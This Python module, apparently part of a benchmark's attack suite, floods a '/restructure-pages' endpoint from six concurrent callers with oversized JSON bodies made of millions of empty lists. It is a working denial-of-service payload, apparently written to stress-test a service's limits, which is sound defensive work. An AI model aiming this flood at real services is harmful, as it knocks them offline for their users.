"""JSON bodies of empty lists: 15 MB of them, and as many as the service accepts."""

from itertools import cycle
from multiprocessing.synchronize import Event

from benchmarks.attack.callers import Address, Outcomes, post, repeat

CALLERS = 6
_COUNTS = (5_000_000, 240_000)


def attack(address: Address, stop: Event) -> Outcomes:
    """Send the bodies in turn."""
    bodies = cycle([_body(count) for count in _COUNTS])
    path = "/restructure-pages"
    return repeat(lambda: post(address, path, next(bodies), "application/json"), CALLERS, stop)


def _body(count: int) -> bytes:
    lists = b",".join([b"[]"] * count)
    return b'{"pages":[{"prunedResult":{"model_settings":{},"parsing_res_list":[],"a":[%s]}}]}' % lists
